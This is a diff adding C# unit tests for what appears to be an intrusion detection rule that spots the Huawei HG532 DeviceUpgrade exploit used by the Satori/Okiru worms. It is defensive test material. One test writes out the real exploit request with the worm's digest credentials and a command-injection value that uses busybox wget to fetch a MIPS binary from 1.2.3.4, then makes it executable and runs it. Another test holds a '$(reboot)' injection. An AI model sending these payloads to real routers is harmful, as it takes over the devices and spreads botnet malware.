@@ -233,4 +233,47 @@ public class SoapControlRuleTests
 
         AlertAssert.None(s.Run().Alerts);
     }
+
+    /// <summary>A SOAP envelope POSTed with no SOAPAction header, as the Satori/Okiru worms send it.</summary>
+    private static string PostWithoutSoapAction(string path, string service, string action, (string Name, string Value)[] args, string? contentType = null)
+    {
+        string body = "<?xml version=\"1.0\" ?>\n<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\" s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\">" +
+            $"<s:Body><u:{action} xmlns:u=\"{service}\">" + string.Concat(args.Select(a => $"<{a.Name}>{a.Value}</{a.Name}>")) + $"</u:{action}></s:Body></s:Envelope>\n";
+        return HttpText.Request("POST", path, $"{Router}:37215", body, ("Content-Type", contentType), ("Connection", "keep-alive"), ("Accept", "*/*"),
+            ("Authorization", "Digest username=\"dslf-config\", realm=\"HuaweiHomeGateway\", nonce=\"88645cefb1f9ede0e336e3569d75ee30\", uri=\"/ctrlt/DeviceUpgrade_1\""));
+    }
+
+    [Fact]
+    public void TheHg532ExploitWithoutSoapActionIsTheHuaweiUpgrade()
+    {
+        var s = new ScenarioCapture().Http(Attacker, 51000, Router, 37215,
+            PostWithoutSoapAction("/ctrlt/DeviceUpgrade_1", "urn:schemas-upnp-org:service:WANPPPConnection:1", "Upgrade",
+                [("NewStatusURL", "$(/bin/busybox wget -g 1.2.3.4 -l /tmp/x -r /bins/mips;chmod 777 /tmp/x;/tmp/x)"), ("NewDownloadURL", "$(echo HUAWEIUPNP)")]),
+            null, RouterMac, RouterMac);
+
+        var alert = Assert.Single(s.Run().Alerts, a => a.Rule == "soap-huawei-hg532-upgrade");
+        Assert.Contains("Upgrade to /ctrlt/DeviceUpgrade_1 without SOAPAction", alert.Summary);
+        Assert.Contains("shell syntax '$('", alert.Summary);
+    }
+
+    [Fact]
+    public void AnUpgradeWithoutSoapActionWithPlainUrlsOnAnotherPathIsNotTheHuaweiExploit()
+    {
+        var s = new ScenarioCapture().Http(Client, 51000, Router, 37215,
+            PostWithoutSoapAction("/upnp/control/WANPPPConn1", "urn:schemas-upnp-org:service:WANPPPConnection:1", "Upgrade",
+                [("NewStatusURL", "http://192.168.1.1/status"), ("NewDownloadURL", "http://updates.example/fw.bin")], "text/xml"),
+            null, ClientMac, RouterMac);
+
+        Assert.DoesNotContain(s.Run().Alerts, a => a.Rule == "soap-huawei-hg532-upgrade");
+    }
+
+    [Fact]
+    public void AFormPostedToTheHuaweiPathIsNotSoapAndNotTheExploit()
+    {
+        var s = new ScenarioCapture().Http(Client, 51000, Router, 37215,
+            HttpText.Request("POST", "/ctrlt/DeviceUpgrade_1", $"{Router}:37215", "NewStatusURL=%24%28reboot%29",
+                ("Content-Type", "application/x-www-form-urlencoded")), null, ClientMac, RouterMac);
+
+        Assert.DoesNotContain(s.Run().Alerts, a => a.Rule == "soap-huawei-hg532-upgrade");
+    }
 }
